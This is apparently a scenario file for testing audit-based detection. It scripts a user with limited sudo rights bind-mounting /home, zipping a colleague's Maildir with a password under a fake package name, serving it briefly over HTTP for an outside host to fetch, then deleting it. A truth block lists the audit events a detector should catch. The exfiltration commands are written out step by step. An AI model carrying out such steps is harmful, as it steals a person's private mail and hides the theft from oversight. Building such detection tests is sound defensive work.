title="Homes bound read-only elsewhere, a colleague's mail zipped with a password, fetched from outside"
what="dev (sudo for mount and tar, for builds) binds /home to a build folder, makes a zip with a password of clerk's Maildir under the other name and lets python's http.server hand it out for a minute; an outside machine fetches it."
user=dev daemons="cron sshd" audit_rules=audit-wide.rules
setup() {
  printf 'dev ALL=(root) NOPASSWD: /usr/bin/mount, /usr/bin/umount, /usr/bin/zip\n' > /etc/sudoers.d/dev; chmod 440 /etc/sudoers.d/dev
  mkdir -p /home/dev/build/root/srv /home/dev/build/dist; echo 'all: ; echo ok' > /home/dev/build/Makefile; chown -R dev: /home/dev/build
}
act() {
  letters clerk 8; small_talk 2
  ( sleep 16; outside curl -s -o /dev/null --interface 203.0.113.90 http://198.51.100.10:8091/pkg-1.2.zip ) & local puller=$!
  ssh_as dev <<'L'
cd build
make
sudo mount --bind /home root/srv
sudo zip -qr -P build dist/pkg-1.2.zip root/srv/clerk/Maildir
sudo umount root/srv
python3 -m http.server 8091 --directory dist >/dev/null 2>&1 &
%sleep 14
kill %1
rm -f dist/pkg-1.2.zip
L
  wait $puller; small_talk 1
}
truth() {
  exec_step bind 'mount --bind /home root/srv' 'the homes get another name'
  exec_step zip 'zip -qr -P build dist/pkg-1.2.zip' 'a zip of the mail of another'
  file_step read 'zip openat:read .*/home/dev/build/root/srv/clerk/Maildir/new' 'messages are read'
  exec_step serve 'python3 -m http.server 8091' 'and handed out'
}
